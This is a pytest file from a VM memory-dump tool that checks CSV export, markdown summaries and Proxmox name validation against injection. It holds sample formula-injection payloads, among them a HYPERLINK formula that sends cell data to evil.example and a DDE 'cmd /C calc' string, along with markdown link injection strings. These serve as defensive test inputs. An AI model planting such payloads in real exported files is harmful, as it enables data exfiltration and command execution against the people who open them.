"""Issue 11 item 14: what people read: the API's CSV export (the CLI's --csv prints it
as is) has no formula cells, the capture summary artifact no markup from VM names or
errors, and Proxmox VM names are refused unless they are plain ids."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from api.routes import csv_lines
from memdump.errors import InvalidIdentifierError
from memdump.hypervisors.base import VMRef
from memdump.hypervisors.proxmox import ProxmoxDriver
from memdump.records.model import API_FIELDS, DumpRecord
from memdump.recordsig import STATUS_FIELD
from memdump.settings import HypervisorConfig
from memdump.transport.local import LocalTransport
from tests.helpers.markdown import render_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _record(dom: str, vmid: str = "101") -> dict[str, object]:
    now = datetime(2026, 1, 2, tzinfo=UTC)
    rec = DumpRecord(now, dom, vmid, "a" * 64, 1.5, 100, 1, 2, 3, "/d/x.mem.gz", "b" * 64, 1, "hv")
    return rec.api_dict()


def test_api_csv_export_escapes_every_cell() -> None:
    rows = [_record(v, vmid=v) for v in HOSTILE] + [_record("vm-web-01")]
    text = "".join(csv_lines(rows))
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == [*API_FIELDS, STATUS_FIELD]
    col = {name: i for i, name in enumerate(parsed[0])}
    for value, row in zip(HOSTILE, parsed[1:], strict=False):
        assert row[col["dom"]] == "'" + value
        assert row[col["vmid"]] == "'" + value
    assert parsed[-1][col["dom"]] == "vm-web-01"  # plain values are untouched
    assert parsed[-1][col["duration_sec"]] == "1.5"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in parsed for cell in r)


def test_capture_summary_escapes_vm_and_error() -> None:
    from flows.capture import _summary

    rows = [
        ("vm|x", "failed", None, "virsh said: <b>no</b>\n| x | y |"),
        ("[a](http://evil.example)", "failed", None, "**boom**"),
    ]
    rendered = render_table(_summary(rows, [("hv-2", "cannot connect: `refused` | <i>")]))
    assert len(rendered) == 4 and all(len(r) == 8 for r in rendered)
    assert rendered[1][0] == "vm|x" and rendered[1][7] == "virsh said: <b>no</b>\\x0a| x | y |"
    assert rendered[2][0] == "[a](http://evil.example)" and rendered[2][7] == "**boom**"
    assert rendered[3][0] == "hv-2:all"
    assert (
        rendered[3][7] == "cannot list the VMs of hypervisor hv-2: cannot connect: `refused` | <i>"
    )


# -- Proxmox VM names ------------------------------------------------------------------

FAKE_QM = """#!/bin/sh
# A node whose VM 106 has a name no Proxmox would accept (a hostile or broken qm).
case $1 in
  list)
    echo "      VMID NAME                 STATUS     MEM(MB)    BOOTDISK(GB) PID"
    echo "       101 vm-web               running    1                  0.00 4101"
    echo "       106 $BAD_NAME              running    1                  0.00 4106" ;;
  config)
    if [ "$2" = 106 ]; then echo "name: $BAD_NAME"; else echo "name: vm-web"; fi
    echo "memory: 1" ;;
  status) printf 'status: running\\nqmpstatus: running\\n' ;;
  monitor) cat >/dev/null ;;
esac
"""


@pytest.mark.parametrize("bad", ["=1+2", "@SUM(1)", "vm|x", "vm<b>", "vm\u00e9"])
def test_proxmox_names_are_checked_like_ids(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, bad: str
) -> None:
    qm = tmp_path / "qm"
    qm.write_text(FAKE_QM)
    qm.chmod(0o755)
    monkeypatch.setenv("BAD_NAME", bad)
    hv = HypervisorConfig(name="pve", driver="proxmox", transport="local", qm_command=str(qm))
    d = ProxmoxDriver(hv, LocalTransport())
    listed = {r.vmid: r for r in d.list_vms()}
    assert set(listed) == {"101", "106"}  # listed: "all" tries it and reports why it failed
    with pytest.raises(InvalidIdentifierError) as ei:
        d.resolve("106")
    assert ei.value.fields["vm_id"] == "106" and ei.value.fields["hypervisor"] == "pve"
    with pytest.raises(InvalidIdentifierError):
        d.snapshot(listed["106"])  # a ref straight from the listing (the CLI's "all")
    assert d.resolve("101") == VMRef("pve", "101", "vm-web")
    assert d.snapshot(listed["101"]).ref.name == "vm-web"


def test_verify_summary_escapes_record_values() -> None:
    from flows.verify import _summary

    results = [
        {
            "dump_path": "/d/[x](http://evil.example)_`1`.mem.gz",
            "status": "mismatch",
            "seconds": 0.5,
            "detail": "sha256 differs: <b>x</b>\n| forged | row |",
        }
    ]
    rendered = render_table(_summary(results))
    assert rendered[1] == [
        "/d/[x](http://evil.example)_`1`.mem.gz",
        "mismatch",
        "0.5",
        "sha256 differs: <b>x</b>\\x0a| forged | row |",
    ]
